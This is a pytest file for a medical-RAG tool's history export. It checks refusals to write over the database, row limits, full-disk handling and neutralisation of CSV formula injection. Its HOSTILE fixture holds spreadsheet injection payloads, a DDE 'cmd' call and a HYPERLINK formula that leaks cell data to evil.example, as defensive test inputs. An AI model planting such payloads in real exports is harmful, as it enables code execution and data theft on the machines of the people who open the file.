"""History export (issue #12 items 1, 2, 3, 9): never into the data folder or over the database, never over
a file without ``--force``, every row unless ``--limit``, clear messages for a missing folder, a folder
target and a full disk (which leaves no partial file), and no spreadsheet formula in a CSV cell."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any, BinaryIO

import pandas as pd
import pytest

import medrag.export as export
from medrag.analysis import Analysis
from medrag.config import Settings
from medrag.export import FORMULA_PREFIXES, history_csv_bytes, history_export_bytes
from medrag.store import Store
from pgsuite import folder_store

ROWS = 27  # more than the listing's 20, so "export everything" is visible
HOSTILE = {
    "question": "=cmd|' /C calc'!A0",
    "input_name": '=HYPERLINK("http://evil.example/?leak="&A1,"click").png',
    "label": "+SUM(1+1)*cmd|' /C calc'!A0",
    "user_notes": "@SUM(A1:A9)",
    "tags": ["-2+3", "\tTAB", "\rCR"],
}


def cli(*argv: str) -> tuple[int, str, str]:
    """``medrag.cli.main(argv)`` in-process: (exit code, stdout, stderr). Any exception fails the test."""
    from medrag.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture()
def data_dir(tmp_path: Path) -> Path:
    """A data folder whose history holds :data:`ROWS` analyses, the last one with formula-like text."""
    data = tmp_path / "data"
    store = folder_store(data)
    with store.session():
        for i in range(ROWS - 1):
            store.save_analysis(Analysis(input_kind="text", question=f"question {i}", label="normal"))
        store.save_analysis(Analysis(
            input_kind="image", input_name=HOSTILE["input_name"], question=HOSTILE["question"], label=HOSTILE["label"],
            user_notes=HOSTILE["user_notes"], tags=list(HOSTILE["tags"]),
        ))
    return data


def _db_state(data: Path) -> tuple[int, list[int], bytes]:
    """(row count, ids, the file's first 16 bytes): what an export over the database would destroy."""
    store = folder_store(data)
    ids = [int(i) for i in store.history_page(0, 1000, columns=("id",))["id"]]
    head = Settings(data_dir=data).db_path.read_bytes()[:16]
    return store.count_analyses(), ids, head


def _export(data: Path, target: Path | str, *extra: str) -> tuple[int, str, str]:
    return cli("--data-dir", str(data), "history", "--export", str(target), *extra)


# ----------------------------------------------------------------------------- item 1: data folder, overwrite


def _targets(data: Path, tmp_path: Path) -> dict[str, Path]:
    db = Settings(data_dir=data).db_path
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "db-link.csv").symlink_to(db)
    (outside / "data-link").symlink_to(data, target_is_directory=True)
    (outside / "dangling-into-data.csv").symlink_to(data / "new-file.csv")
    return {
        "the live database": db,
        "a new file in the data folder": data / "history.csv",
        "a new file in a data subfolder": data / "thumbs" / "history.parquet",
        "a symlink to the database": outside / "db-link.csv",
        "a path through a symlink to the data folder": outside / "data-link" / "medrag.duckdb",
        "a dangling symlink into the data folder": outside / "dangling-into-data.csv",
        "the data folder with ..": outside / ".." / "data" / "x.csv",
    }


@pytest.mark.duckdb_only("the targets include the DuckDB file and links to it, and its bytes are compared")
@pytest.mark.parametrize("force", [False, True], ids=["plain", "--force"])
def test_export_into_the_data_folder_is_refused_and_the_database_is_intact(
    data_dir: Path, tmp_path: Path, force: bool
) -> None:
    (data_dir / "thumbs").mkdir(exist_ok=True)
    before = _db_state(data_dir)
    for what, target in _targets(data_dir, tmp_path).items():
        existed = target.exists()
        code, out, err = _export(data_dir, target, *(["--force"] if force else []))
        assert code == 2, f"{what}: exit {code}, {out!r} {err!r}"
        assert err.startswith("error: Refusing to export") and ("data folder" in err or "database" in err), err
        assert "Traceback" not in err and "Wrote" not in out, what
        assert target.exists() == existed, f"{what}: a file was created or removed"
        assert _db_state(data_dir) == before, f"{what}: the database changed"
    assert not (data_dir / "new-file.csv").exists()


def test_an_existing_file_is_kept_without_force_and_replaced_with_it(data_dir: Path, tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    target.write_text("precious\n")
    code, out, err = _export(data_dir, target)
    assert code == 2 and "already exists" in err and "--force" in err and "Traceback" not in err
    assert target.read_text() == "precious\n"
    # A symlink to an existing file outside the data folder: refused too, then written through with --force.
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    code, _, err = _export(data_dir, link)
    assert code == 2 and "already exists" in err and target.read_text() == "precious\n"
    code, out, err = _export(data_dir, link, "--force")
    assert code == 0, err
    assert link.is_symlink() and len(pd.read_csv(target)) == ROWS


# ----------------------------------------------------------------------------- item 2: every row


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_export_writes_every_row_unless_a_limit_is_given(data_dir: Path, tmp_path: Path, suffix: str) -> None:
    read = pd.read_parquet if suffix == ".parquet" else pd.read_csv
    everything = tmp_path / f"all{suffix}"
    code, out, err = _export(data_dir, everything)
    assert code == 0, err
    frame = read(everything)
    assert len(frame) == ROWS and f"Wrote {ROWS} analyses" in out
    assert sorted(frame["id"]) == list(range(1, ROWS + 1))
    assert "reasoning" in frame.columns and "neighbours" in frame.columns  # the export is complete, not light
    newest = tmp_path / f"newest{suffix}"
    assert _export(data_dir, newest, "--limit", "5")[0] == 0
    assert list(read(newest)["id"]) == [ROWS, ROWS - 1, ROWS - 2, ROWS - 3, ROWS - 4]
    searched = tmp_path / f"searched{suffix}"
    assert _export(data_dir, searched, "--search", "question 1")[0] == 0
    assert sorted(read(searched)["question"]) == sorted(f"question {i}" for i in range(ROWS - 1) if "1" in str(i)[:1])


# ----------------------------------------------------------------------------- item 3: bad targets, full disk


def test_a_missing_folder_and_a_folder_target_get_a_message(data_dir: Path, tmp_path: Path) -> None:
    code, out, err = _export(data_dir, tmp_path / "no" / "such" / "history.csv")
    assert code == 2 and "does not exist" in err and "Traceback" not in err
    assert not (tmp_path / "no").exists()
    folder = tmp_path / "a-folder"
    folder.mkdir()
    code, out, err = _export(data_dir, folder)
    assert code == 2 and "is a folder" in err and "Traceback" not in err
    assert list(folder.iterdir()) == []


class _DiskFills:
    """A handle that accepts ``room`` bytes, then fails like a full disk."""

    def __init__(self, inner: BinaryIO, room: int) -> None:
        self.inner, self.room = inner, room

    def write(self, data: bytes) -> int:
        if len(data) > self.room:
            self.inner.write(bytes(data[: self.room]))
            self.room = 0
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        self.room -= len(data)
        return self.inner.write(data)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("existing", [False, True], ids=["new file", "over an old file with --force"])
def test_a_full_disk_leaves_no_partial_file_and_the_old_one_intact(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str, existing: bool
) -> None:
    real_writer = export.atomic_writer

    @contextlib.contextmanager
    def filling_writer(target: Path, **kw: Any) -> Iterator[Any]:
        with real_writer(target, **kw) as handle:
            yield _DiskFills(handle, room=300)

    monkeypatch.setattr(export, "atomic_writer", filling_writer)
    monkeypatch.setattr(export, "BATCH_ROWS", 4)  # several writes, so the disk fills mid-export
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / f"history{suffix}"
    if existing:
        target.write_bytes(b"old export")
    code, out, err = _export(data_dir, target, "--force")
    assert code == 2 and "disk is full" in err and "Traceback" not in err, err
    assert "Wrote" not in out
    if existing:
        assert target.read_bytes() == b"old export"
        assert [p.name for p in out_dir.iterdir()] == [target.name]  # no temp file left beside it
    else:
        assert list(out_dir.iterdir()) == []  # neither a 0-byte nor a partial file


# ----------------------------------------------------------------------------- item 9: formula injection


def _csv_rows(payload: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(payload.decode("utf-8"))))


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), f"{column}: {cell!r} would run as a formula"
    hostile = next(r for r in rows if r["label"].startswith("'"))
    assert hostile["question"] == "'" + HOSTILE["question"]
    assert hostile["input_name"] == "'" + HOSTILE["input_name"]
    assert hostile["label"] == "'" + HOSTILE["label"]
    assert hostile["notes"] == "'" + HOSTILE["user_notes"]


def test_formula_cells_are_neutralised_in_the_cli_csv_and_kept_in_parquet(data_dir: Path, tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    assert _export(data_dir, target)[0] == 0
    _assert_neutralised(_csv_rows(target.read_bytes()))
    parquet = tmp_path / "history.parquet"
    assert _export(data_dir, parquet)[0] == 0
    raw = pd.read_parquet(parquet).set_index("id").loc[ROWS]
    assert raw["question"] == HOSTILE["question"] and raw["label"] == HOSTILE["label"]


def test_formula_cells_are_neutralised_in_the_app_export(data_dir: Path) -> None:
    store = folder_store(data_dir)
    _assert_neutralised(_csv_rows(history_export_bytes(store, "csv")))
    _assert_neutralised(_csv_rows(history_csv_bytes(store.history_frame())))
    assert len(pd.read_parquet(io.BytesIO(history_export_bytes(store, "parquet")))) == ROWS
    # Numbers stay numbers: a negative number is not text and gets no quote.
    frame = pd.DataFrame({"total_seconds": [-1.5], "text": ["-1.5"]})
    assert _csv_rows(history_csv_bytes(frame)) == [{"total_seconds": "-1.5", "text": "'-1.5"}]


def test_export_of_an_empty_history_writes_the_header(tmp_path: Path) -> None:
    data = tmp_path / "empty"
    target = tmp_path / "empty.csv"
    assert _export(data, target)[0] == 0
    header = target.read_text().splitlines()
    assert len(header) == 1 and header[0].startswith("id,created_at,")
    assert len(pd.read_parquet(io.BytesIO(history_export_bytes(Store(":memory:"), "parquet")))) == 0
